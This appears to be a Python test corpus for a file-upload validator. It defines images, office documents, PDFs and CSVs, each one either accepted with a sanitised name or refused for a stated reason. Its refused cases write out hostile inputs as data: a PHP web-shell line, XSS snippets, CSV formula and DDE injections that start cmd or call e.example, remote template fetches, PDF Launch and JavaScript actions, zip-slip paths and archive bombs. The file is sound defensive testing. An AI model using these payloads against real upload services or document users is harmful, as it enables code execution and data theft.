"""A hundred files, good and bad, made here; each with the one thing that must become of it."""

import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from ogpgroup.uploads import LARGEST, Reason
from tests.ogpgroup import upload_documents as docs
from tests.ogpgroup import upload_pictures as pics
from tests.ogpgroup.upload_pictures import SECRET, sketch

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
JPEG, PNG, WEBP = "image/jpeg", "image/png", "image/webp"
PDF, CSV = "application/pdf", "text/csv"
EMBEDDED = "word/embeddings/Microsoft_Excel_Sheet1.xlsx"


@dataclass(frozen=True)
class Case:
    """One file: what it is called, what is in it, and either why it is refused or as what it is kept."""

    what: str
    name: str
    make: Callable[[], bytes]
    refused: Reason | None = None
    kept: str = ""  # its name afterwards
    content_type: str = ""

    def __str__(self) -> str:
        return self.what

    @property
    def content(self) -> bytes:
        return _made(self.make)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


def good(what: str, name: str, make: Callable[[], bytes], content_type: str, kept: str = "") -> Case:
    return Case(what, name, make, kept=kept or name, content_type=content_type)


def bad(reason: Reason, *cases: tuple[str, str, Callable[[], bytes]]) -> list[Case]:
    return [Case(what, name, make, refused=reason) for what, name, make in cases]


PICTURES = [
    good("GPS in EXIF", "IMG_1234.JPG", pics.gps, JPEG, "IMG_1234.jpg"),
    good("XMP", "a.jpg", lambda: pics.jpeg(pics.segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + pics.XMP)), JPEG),
    good("comment", "a.jpg", lambda: pics.jpeg(pics.segment(0xFE, SECRET)), JPEG),
    good("PHP in a comment", "a.jpg", lambda: pics.jpeg(pics.segment(0xFE, b"<?php system($_GET[0]);")), JPEG),
    good("IPTC", "a.jpg", pics.iptc, JPEG),
    good("unknown segment", "a.jpg", lambda: pics.jpeg(pics.segment(0xEB, SECRET)), JPEG),
    good("colour profile", "a.jpg", pics.coloured, JPEG),
    good("profile that is none", "a.jpg", lambda: pics.jpeg(icc_profile=SECRET * 50), JPEG),
    good("two pictures in one (MPO)", "a.jpg", pics.mpo, JPEG),
    good("JPEG with a JAR behind", "a.jpg", lambda: pics.jpeg(tail=pics.archive(a=SECRET)), JPEG),
    good("JPEG with a page behind", "a.jpg", lambda: pics.jpeg(tail=HTML + SECRET), JPEG),
    good("JPEG with a PDF behind", "a.jpg", lambda: pics.jpeg(tail=docs.pdf()), JPEG),
    good("four inks", "a.jpg", lambda: pics.jpeg(picture=sketch("CMYK")), JPEG),
    good("greys", "a.jpg", lambda: pics.jpeg(picture=sketch("L")), JPEG),
    good("progressive", "a.jpg", lambda: pics.jpeg(progressive=True), JPEG),
    good("large photo", "a.jpg", lambda: pics.jpeg(picture=sketch(size=(4000, 3000))), JPEG),
    good("script's name in the name", "x.php.jpg", pics.jpeg, JPEG, "x-php.jpg"),
    good("path in the name", "../../etc/passwd.jpg", pics.jpeg, JPEG, "passwd.jpg"),
    good("Windows path in the name", "C:\\fotos\\parque.jpg", pics.jpeg, JPEG, "parque.jpg"),
    good("name written from right to left", "foto\u202eexe.jpg", pics.jpeg, JPEG, "fotoexe.jpg"),
    good("NUL in the name", "foto.php\0.jpg", pics.jpeg, JPEG, "foto-php.jpg"),
    good("line break in the name", "a\r\nSet-Cookie: x.jpg", pics.jpeg, JPEG, "aSet-Cookie- x.jpg"),
    good("long name", "á" * 300 + ".jpg", pics.jpeg, JPEG, "á" * 100 + ".jpg"),
    good("name of a device", "CON.jpg", pics.jpeg, JPEG, "file CON.jpg"),
    good("no name but the ending", ".jpg", pics.jpeg, JPEG, "file.jpg"),
    good("markup in the name", '"><img src=x>.png', pics.png, PNG, "img src-x.png"),
    good("the long ending", "Foto del parque.JPEG", pics.jpeg, JPEG, "Foto del parque.jpg"),
    good("PNG with text, XMP, EXIF", "a.png", pics.told_png, PNG),
    good("PNG with a zip behind", "a.png", lambda: pics.png() + pics.archive(a=SECRET), PNG),
    good("PNG with an unknown chunk", "a.png", lambda: pics.png(pics.chunk(b"prVt", SECRET)), PNG),
    good("moving PNG", "a.png", lambda: pics.png(save_all=True, append_images=[sketch().rotate(90), sketch()]), PNG),
    good("PNG seen through", "a.png", lambda: pics.png(picture=pics.see_through()), PNG),
    good("PNG with a palette", "a.png", lambda: pics.png(picture=sketch("P"), transparency=0), PNG),
    good("PNG of two colours", "a.png", lambda: pics.png(picture=sketch("1")), PNG),
    good("PNG of greys, 16 bits", "a.png", lambda: pics.flat_png(30, 20, depth=16), PNG),
    good("PNG of greys seen through", "a.png", lambda: pics.flat_png(30, 20, colour=4, depth=16), PNG),
    good("PNG of one pixel", "a.png", lambda: pics.flat_png(1, 1), PNG),
    good("PNG like a thread", "a.png", lambda: pics.flat_png(2, 20_000), PNG),
    good("WebP with EXIF and XMP", "a.webp", pics.webp, WEBP),
    good("moving WebP", "a.webp", lambda: pics.webp(save_all=True, append_images=[sketch().rotate(90)]), WEBP),
    good("WebP seen through", "a.webp", lambda: pics.saved(pics.see_through(), "WEBP", lossless=True), WEBP),
]

DOCUMENTS = [
    good("PDF", "Plan 1.2.pdf", docs.pdf, PDF),
    good("DOCX", "acta.docx", docs.docx, docs.WORD),
    good("DOCX written in one go", "acta.docx", docs.streamed_docx, docs.WORD),
    good(
        "DOCX with a chart",
        "acta.docx",
        lambda: docs.docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": docs.xlsx()}),
        docs.WORD,
    ),
    good("XLSX", "avance.xlsx", docs.xlsx, docs.EXCEL),
    good("XLSX of many rows", "a.xlsx", lambda: docs.xlsx({"xl/s.xml": _rows(200_000)}), docs.EXCEL),
    good("ODS", "avance.ods", docs.ods, docs.TABLE),
    good("ODS with an empty library", "a.ods", lambda: docs.ods({"Basic/Standard/script-lb.xml": b"<l/>"}), docs.TABLE),
    good("CSV in UTF-8", "a.csv", lambda: "Año,Acción\n2026,-5\n".encode(), CSV),
    good("CSV in UTF-8 with a mark", "a.csv", lambda: "Año;Acción\r\n- ya (hecho);+52 55\r\n".encode("utf-8-sig"), CSV),
    good("CSV of Excel in Mexico", "a.csv", lambda: "Año;Acción “única”\r\n".encode("cp1252"), CSV),
    good("CSV with zeros kept", "a.csv", lambda: b'="001",="002"\n"=""003"""\n', CSV),
    good("CSV of signs", "a.csv", lambda: b"+|,@,-|-|\n" * 20_000, CSV),
]

DISK = "file:///C:\\Users\\ana\\"
# What offices tie to their documents every day, and what some put in.
DOCUMENTS += [
    good("DOCX with a link", "a.docx", lambda: docs.tied_docx("hyperlink", "https://city.example/a"), docs.WORD),
    good(
        "DOCX with a picture of a page", "a.docx", lambda: docs.tied_docx("image", "https://a.example/a.png"), docs.WORD
    ),
    good(
        "DOCX of a template on a disk",
        "a.docx",
        lambda: docs.tied_docx("attachedTemplate", DISK + "Informe.dotx", part="settings.xml"),
        docs.WORD,
    ),
    good(
        "DOCX with a chart that names its workbook",
        "a.docx",
        lambda: docs.tied_docx("oleObject", DISK + "Avance%202026.xlsx", part="charts/chart1.xml"),
        docs.WORD,
    ),
    good("DOCX with an object", "a.docx", lambda: docs.docx({"word/embeddings/oleObject1.bin": docs.OLE}), docs.WORD),
    good(
        "XLSX that reads another one",
        "a.xlsx",
        lambda: docs.xlsx(
            {
                "xl/externalLinks/externalLink1.xml": b"<externalLink><externalBook/></externalLink>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": docs.tied("externalLinkPath", "Padr%C3%B3n.xlsx"),
            }
        ),
        docs.EXCEL,
    ),
    good("XLSX that writes of ddeLink", "a.xlsx", lambda: docs.xlsx({"xl/s.xml": b"<t>&lt;ddeLink ></t>"}), docs.EXCEL),
    good("PDF of chance", "a.pdf", lambda: docs.pdf(body=b"\x9d\x01\xfe\x88/JS(\x00\xff /JSON /Launched /J"), PDF),
]

CHART = "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx"
# Slides, where somebody presents; nowhere else.
SLIDES = [
    good("PPTX", "avance.pptx", docs.pptx, docs.POWERPOINT),
    good("PPTX with a chart", "a.pptx", lambda: docs.pptx({CHART: docs.xlsx()}), docs.POWERPOINT),
    good("PPTX with a film", "a.pptx", lambda: docs.pptx({"ppt/media/m1.mp4": b"\0\0\0\x18ftypmp42"}), docs.POWERPOINT),
    good("ODP", "avance.odp", docs.odp, docs.IMPRESS),
]


def _rows(count: int) -> bytes:
    return b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (n, n, n * 7919) for n in range(count))


REFUSED = [
    *bad(Reason.EMPTY, ("empty picture", "a.jpg", bytes), ("empty table", "a.csv", lambda: b"")),
    *bad(
        Reason.TOO_LARGE,
        ("one byte too many, picture", "a.jpg", lambda: pics.jpeg().ljust(LARGEST + 1, b"\0")),
        ("one byte too many, PDF", "a.pdf", lambda: docs.pdf().ljust(LARGEST + 1, b"\n")),
    ),
    *bad(
        Reason.TYPE,
        ("no ending", "parque", pics.jpeg),
        ("program", "a.exe", lambda: b"MZ\x90\0"),
        ("program behind a picture's name", "foto.jpg.exe", pics.jpeg),
        ("program written from right to left", "foto\u202egpj.exe", pics.jpeg),
        ("dot at the end", "a.jpg.", pics.jpeg),
        ("stream of Windows", "a.jpg::$DATA", pics.jpeg),
        ("GIF", "a.gif", lambda: GIF),
        ("script", "a.php", lambda: b"<?php"),
        ("JavaScript", "a.js", lambda: b"alert(1)"),
    ),
    *bad(Reason.WEB_PAGE, ("SVG", "a.svg", lambda: SVG), ("page", "a.HTML", lambda: HTML)),
    *bad(Reason.HEIC, ("HEIC", "a.heic", lambda: b"\0\0\0\x18ftypheic")),
    *bad(Reason.ARCHIVE, ("zip", "a.zip", lambda: pics.archive(a=b"a"))),
    *bad(
        Reason.OLD_OFFICE,
        ("old Word by name", "a.doc", lambda: docs.OLE),
        ("old Word as DOCX", "a.docx", lambda: docs.OLE),
    ),
    *bad(
        Reason.LOCKED,
        ("DOCX behind a password", "a.docx", lambda: docs.LOCKED),
        (
            "ODS behind a password",
            "a.ods",
            lambda: docs.ods({"META-INF/manifest.xml": b"<m:file-entry><m:encryption-data/></m:file-entry>"}),
        ),
        ("ODS behind a password, newly", "a.ods", lambda: docs.ods({"encrypted-package": b"\x8f" * 99})),
        ("encrypted zip", "a.xlsx", lambda: docs.encrypted(docs.xlsx())),
    ),
    *bad(
        Reason.MISMATCH,
        ("page as JPEG", "a.jpg", lambda: HTML),
        ("SVG as PNG", "a.png", lambda: SVG),
        ("script as JPEG", "a.jpg", lambda: b"<?php system($_GET[0]);"),
        ("GIF as JPEG (GIFAR)", "a.jpg", lambda: GIF + pics.archive(a=b"a")),
        ("page that begins like a GIF", "a.jpg", lambda: b"GIF89a/*" + HTML),
        ("PNG as JPEG", "a.jpg", pics.png),
        ("JPEG as PNG", "a.png", pics.jpeg),
        ("JPEG as PDF", "a.pdf", pics.jpeg),
        ("JPEG as CSV", "a.csv", pics.jpeg),
        ("sound as WebP", "a.webp", lambda: b"RIFF\x24\0\0\0WAVEfmt "),
        ("zip before a PDF", "a.pdf", lambda: pics.archive(a=b"a") + docs.pdf()),
        ("page before a PDF", "a.pdf", lambda: HTML + docs.pdf()),
        ("line before a PDF", "a.pdf", lambda: b"\n" + docs.pdf()),
        ("PDF of no version", "a.pdf", lambda: docs.pdf(head=b"%PDF-<script>alert(1)</script>\n")),
        ("page before a zip", "a.docx", lambda: HTML + docs.docx()),
        ("plain zip as DOCX", "a.docx", lambda: pics.archive(a=b"a")),
        ("plain zip as ODS", "a.ods", lambda: pics.archive(a=b"a")),
        ("XLSX as DOCX", "a.docx", docs.xlsx),
        ("DOCX as ODS", "a.ods", docs.docx),
        ("PDF as DOCX", "a.docx", docs.pdf),
        ("page as table", "a.csv", lambda: HTML),
        ("SVG as table", "a.csv", lambda: b"\xef\xbb\xbf \n" + SVG),
        ("page within a table", "a.csv", lambda: b"a,b\n" + HTML),
        ("PDF within a table", "a.csv", lambda: b"a,b\n" + docs.pdf()),
        ("NUL in a table", "a.csv", lambda: b"a,b\n1,\x002\n"),
        ("bell in a table", "a.csv", lambda: b"a,b\n1,\x072\n"),
        ("program as table", "a.csv", lambda: b"MZ\x90\0\x03\0\0\0"),
    ),
    *bad(
        Reason.DAMAGED,
        ("JPEG cut short", "a.jpg", lambda: pics.jpeg()[:400]),
        ("JPEG that only begins", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML),
        ("PNG cut short", "a.png", lambda: pics.png()[:60]),
        ("PNG with wrong sums", "a.png", lambda: pics.png().replace(b"IHDR\0", b"IHDR\1")),
        ("PNG whose comment is a bomb", "a.png", pics.text_bomb),
        ("WebP cut short", "a.webp", lambda: pics.webp()[:60]),
        ("WebP of nothing", "a.webp", lambda: b"RIFF\x04\0\0\0WEBP"),
        ("PDF cut short", "a.pdf", lambda: docs.pdf()[:80]),
        ("PDF of a head alone", "a.pdf", lambda: b"%PDF-1.7\n" + b"a" * 500 + b"%%EOF"),
        ("DOCX cut short", "a.docx", lambda: docs.docx()[:-40]),
        ("DOCX with a wrong sum", "a.docx", lambda: docs.docx(method=zipfile.ZIP_STORED).replace(b"<w:doc", b"<w:DOC")),
        ("DOCX that lies about sizes", "a.docx", docs.lying),
        ("DOCX packed in a strange way", "a.docx", lambda: docs.docx(method=zipfile.ZIP_LZMA)),
        ("DOCX with entities", "a.docx", lambda: docs.docx(kinds=_entities())),
        ("DOCX whose list is no XML", "a.docx", lambda: docs.docx(kinds=b"<Types")),
    ),
    *bad(
        Reason.HIDDEN,
        ("page within the head of a PDF", "a.pdf", lambda: docs.pdf(body=b"%" + HTML)),
        ("zip after a PDF", "a.pdf", lambda: docs.pdf(tail=pics.archive(a=b"a"))),
        ("page after a PDF", "a.pdf", lambda: docs.pdf(tail=HTML)),
        ("zip at the end of a PDF", "a.pdf", lambda: docs.pdf(tail=pics.archive(a=b"a") + b"startxref 1 %%EOF")),
        ("tail of a DOCX", "a.docx", lambda: docs.docx() + HTML),
        ("program between the parts", "a.docx", lambda: docs.with_gap(b"MZ" * 500)),
        ("part that leaves the folder", "a.docx", lambda: docs.renamed("../../x.sh")),
        ("part from the root", "a.docx", lambda: docs.renamed("/etc/cron.d/x")),
        ("part with a back stroke", "a.docx", lambda: docs.renamed("word\\x.exe")),
        ("two parts of one name", "a.docx", docs.doubled),
    ),
    *bad(
        Reason.MACROS,
        ("DOCM", "a.docm", docs.docx),
        ("XLSM", "a.xlsm", docs.xlsx),
        ("DOCX with macros", "a.docx", lambda: docs.docx({"word/vbaProject.bin": docs.VBA})),
        ("XLSX with macros of another name", "a.xlsx", lambda: docs.xlsx({"xl/media/image1.png": docs.VBA})),
        (
            "DOCM as DOCX",
            "a.docx",
            lambda: docs.docx(kinds=docs.types("application/vnd.ms-word.macroEnabled.main+xml")),
        ),
        (
            "DOCM as DOCX, spelled otherwise",
            "a.docx",
            lambda: docs.docx(kinds=docs.types(f"{docs.WORD}.main+xml", "application/vnd.ms-word.&#109;acroEnabled")),
        ),
        ("XLSX with macros of Excel 4", "a.xlsx", lambda: docs.xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"})),
        ("DOCX with controls", "a.docx", lambda: docs.docx({"word/activeX/activeX1.xml": b"<x/>"})),
        ("ODS with macros", "a.ods", lambda: docs.ods({"Basic/Standard/Module1.xml": b"<x/>"})),
        ("ODS with scripts", "a.ods", lambda: docs.ods({"Scripts/python/x.py": b"import os"})),
        (
            "macros in the workbook of a chart",
            "a.docx",
            lambda: docs.docx({EMBEDDED: docs.xlsx({"xl/vbaProject.bin": b"x"})}),
        ),
        ("old Excel with macros as XLSX", "a.xlsx", lambda: docs.VBA),
    ),
    *bad(
        Reason.BOMB,
        ("DOCX that swells", "a.docx", lambda: docs.docx({"word/big.xml": b"a" * 20_000_000})),
        ("DOCX of many large parts", "a.docx", lambda: docs.docx({f"w/{n}.xml": b"a" * 1_000_000 for n in range(130)})),
        ("DOCX of many parts", "a.docx", lambda: docs.docx({f"w/{n}": b"" for n in range(2100)})),
        ("DOCX whose parts overlap", "a.docx", docs.overlapping),
        (
            "bomb in the workbook of a chart",
            "a.docx",
            lambda: docs.docx({EMBEDDED: docs.xlsx({"xl/b": b"a" * 20_000_000})}),
        ),
    ),
    *bad(
        Reason.NESTED,
        ("zip in a DOCX", "a.docx", lambda: docs.docx({"word/a.bin": pics.archive(a=b"a")})),
        ("RAR in an XLSX", "a.xlsx", lambda: docs.xlsx({"xl/a.bin": b"Rar!\x1a\x07\x01\0"})),
        (
            "workbook in a workbook in a DOCX",
            "a.docx",
            lambda: docs.docx({EMBEDDED: docs.xlsx({"xl/embeddings/a.xlsx": docs.xlsx()})}),
        ),
        ("zip in an ODS", "a.ods", lambda: docs.ods({"Pictures/a.png": pics.archive(a=b"a")})),
    ),
    *bad(
        Reason.PIXELS,
        ("PNG of 12000 x 12000", "a.png", lambda: pics.flat_png(12_000, 12_000)),
        ("PNG just over the limit", "a.png", lambda: pics.flat_png(8_001, 5_000)),
        ("JPEG that claims 65000 x 65000", "a.jpg", lambda: pics.claims(65_000, 65_000)),
        ("WebP of 16 million", "a.webp", lambda: pics.saved(sketch(size=(4000, 4000)), "WEBP", method=0)),
    ),
    *bad(
        Reason.ENCODING,
        ("table in UTF-16", "a.csv", lambda: "Año,Acción".encode("utf-16")),
        ("table of no encoding", "a.csv", lambda: b"A\xf1o,\x81\x8d\n"),
    ),
    *bad(
        Reason.FORMULAS,
        ("table that starts a program", "a.csv", lambda: b"a,b\n1,=cmd|'/C calc'!A0\n"),
        ("table that asks a server", "a.csv", lambda: b'a;b\r\n"=WEBSERVICE(""http://e.example/""&A1)";2\r\n'),
        ("table that counts before it starts one", "a.csv", lambda: b"a,-2+3+cmd|' /C calc'!A0\n"),
        ("formula behind kept zeros", "a.csv", lambda: b'="001"&WEBSERVICE("http://e.example")\n'),
        ("formula after an old line end", "a.csv", lambda: b"a\r=1+1\r"),
        ("table with @", "a.csv", lambda: b"a\n@SUM(1+1)\n"),
    ),
]

PADDED = "word/_rels/document.xml.rels"
REFUSED += [
    *bad(
        Reason.FETCHES,
        (
            "template of a server",
            "a.docx",
            lambda: docs.tied_docx("attachedTemplate", "https://e.example/t.dotm", part="settings.xml"),
        ),
        (
            "template of a server of Windows",
            "a.docx",
            lambda: docs.tied_docx("attachedTemplate", "file:///%5C%5Ce.example%5Ct.dotm", part="settings.xml"),
        ),
        ("object of a server", "a.docx", lambda: docs.tied_docx("oleObject", "mhtml:http://e.example/a!x-usc:b")),
        ("object of a disk", "a.docx", lambda: docs.tied_docx("oleObject", DISK + "a.xlsx")),
        (
            "chart of a server",
            "a.docx",
            lambda: docs.tied_docx("oleObject", "https://e.example/a.xlsx", part="charts/chart1.xml"),
        ),
        ("frame", "a.docx", lambda: docs.tied_docx("frame", "https://e.example/")),
        ("picture of a server of Windows", "a.docx", lambda: docs.tied_docx("image", "file://e.example/a.png")),
        ("picture of two strokes", "a.docx", lambda: docs.tied_docx("image", "\\\\e.example\\a.png")),
        (
            "object spelled otherwise",
            "a.docx",
            lambda: docs.docx(
                {PADDED: docs.tied("oleObject", "http://e.example/").replace(b"External", b"&#69;xternal")}
            ),
        ),
        (
            "object in two bytes a sign",
            "a.docx",
            lambda: docs.docx(
                {
                    PADDED: docs.tied("oleObject", "http://e.example/")
                    .decode()
                    .replace("UTF-8", "UTF-16")
                    .encode("utf-16")
                }
            ),
        ),
        (
            "frame within a chart",
            "a.docx",
            lambda: docs.docx(
                {EMBEDDED: docs.xlsx({"xl/_rels/workbook.xml.rels": docs.tied("frame", "http://e.example/")})}
            ),
        ),
        (
            "table that starts a program of old",
            "a.xlsx",
            lambda: docs.xlsx(
                {"xl/externalLinks/externalLink1.xml": b'<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}
            ),
        ),
        (
            "table that starts one, in two bytes a sign",
            "a.xlsx",
            lambda: docs.xlsx({"xl/e.xml": '<ddeLink ddeService="cmd"/>'.encode("utf-16")}),
        ),
        (
            "table that starts one where it is unpacked in two pieces",
            "a.xlsx",
            lambda: docs.xlsx({"xl/e.xml": b" " * (64 * 1024 - 4) + b'<ddeLink ddeService="cmd"/>'}),
        ),
        (
            "ODS that starts a program",
            "a.ods",
            lambda: docs.ods({"content.xml": b'<office:dde-source office:dde-application="cmd"/>'}),
        ),
    ),
    *bad(
        Reason.PROGRAM,
        ("program in a DOCX", "a.docx", lambda: docs.docx({"word/embeddings/payload.exe": b"MZ\x90\0"})),
        ("program as a picture in a DOCX", "a.docx", lambda: docs.docx({"word/media/image1.png": b"MZ\x90\0"})),
        ("program of Linux in an ODS", "a.ods", lambda: docs.ods({"Pictures/a.png": b"\x7fELF\2\1"})),
        ("script in a DOCX", "a.docx", lambda: docs.docx({"word/embeddings/payload.js": b"new ActiveXObject()"})),
        ("packed file in a DOCX", "a.docx", lambda: docs.docx({"word/embeddings/oleObject1.bin": docs.PACKED})),
        ("packed file in an ODS", "a.ods", lambda: docs.ods({"Object 1": docs.PACKED})),
        (
            "PDF that runs a script when it opens",
            "a.pdf",
            lambda: docs.pdf(body=b"9 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"),
        ),
        ("PDF whose script is named in numbers", "a.pdf", lambda: docs.pdf(body=b"<</S/J#61vaScr#69pt/J#53 9 0 R>>\n")),
        ("PDF with a script of a film", "a.pdf", lambda: docs.pdf(body=b"<</S/Rendition/JS 9 0 R>>\n")),
        ("PDF that starts a program", "a.pdf", lambda: docs.pdf(body=b"<</S /Launch /F(cmd.exe)>>\n")),
        ("PDF that carries files", "a.pdf", lambda: docs.pdf(body=b"<</Type/EmbeddedFile/Length 2>>\n")),
    ),
]

SLIDES_REFUSED = [
    *bad(
        Reason.MACROS,
        ("PPTM", "a.pptm", docs.pptx),
        ("PPTX with macros", "a.pptx", lambda: docs.pptx({"ppt/vbaProject.bin": docs.VBA})),
        (
            "PPTM as PPTX",
            "a.pptx",
            lambda: docs.pptx(kinds=docs.types("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")),
        ),
        ("PPTX with controls", "a.pptx", lambda: docs.pptx({"ppt/activeX/activeX1.xml": b"<x/>"})),
        (
            "macros in the chart of a slide",
            "a.pptx",
            lambda: docs.pptx({CHART: docs.xlsx({"xl/vbaProject.bin": b"x"})}),
        ),
        ("old slides with macros as PPTX", "a.pptx", lambda: docs.VBA),
        ("ODP with macros", "a.odp", lambda: docs.odp({"Basic/Standard/Module1.xml": b"<x/>"})),
        ("ODP with scripts", "a.odp", lambda: docs.odp({"Scripts/python/x.py": b"import os"})),
    ),
    *bad(Reason.OLD_OFFICE, ("old PowerPoint", "a.ppt", lambda: docs.OLE), ("old as PPTX", "a.pptx", lambda: docs.OLE)),
    *bad(
        Reason.LOCKED,
        ("PPTX behind a password", "a.pptx", lambda: docs.LOCKED),
        ("ODP behind a password", "a.odp", lambda: docs.odp({"encrypted-package": b"\x8f" * 99})),
    ),
    *bad(
        Reason.MISMATCH,
        ("DOCX as PPTX", "a.pptx", docs.docx),
        ("PPTX as DOCX", "a.docx", docs.pptx),
        ("ODS as ODP", "a.odp", docs.ods),
        ("plain zip as PPTX", "a.pptx", lambda: pics.archive(a=b"a")),
        ("page as PPTX", "a.pptx", lambda: HTML),
        (
            "slides that begin at once",
            "a.pptx",
            lambda: docs.pptx(kinds=docs.types(f"{docs.OFFICE}.slideshow.main+xml")),
        ),
    ),
    *bad(Reason.DAMAGED, ("PPTX cut short", "a.pptx", lambda: docs.pptx()[:-40])),
    *bad(Reason.HIDDEN, ("tail of a PPTX", "a.pptx", lambda: docs.pptx() + HTML)),
    *bad(Reason.BOMB, ("PPTX that swells", "a.pptx", lambda: docs.pptx({"ppt/big.xml": b"a" * 20_000_000}))),
    *bad(Reason.NESTED, ("zip within a PPTX", "a.pptx", lambda: docs.pptx({"ppt/media/x": pics.archive(a=b"a")}))),
    *bad(Reason.TYPE, ("slides of a Mac", "a.key", lambda: pics.archive(a=b"a"))),
]

CORPUS = [*PICTURES, *DOCUMENTS, *REFUSED]


def _entities() -> bytes:
    return docs.types(f"{docs.WORD}.main+xml", before='<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">]>')
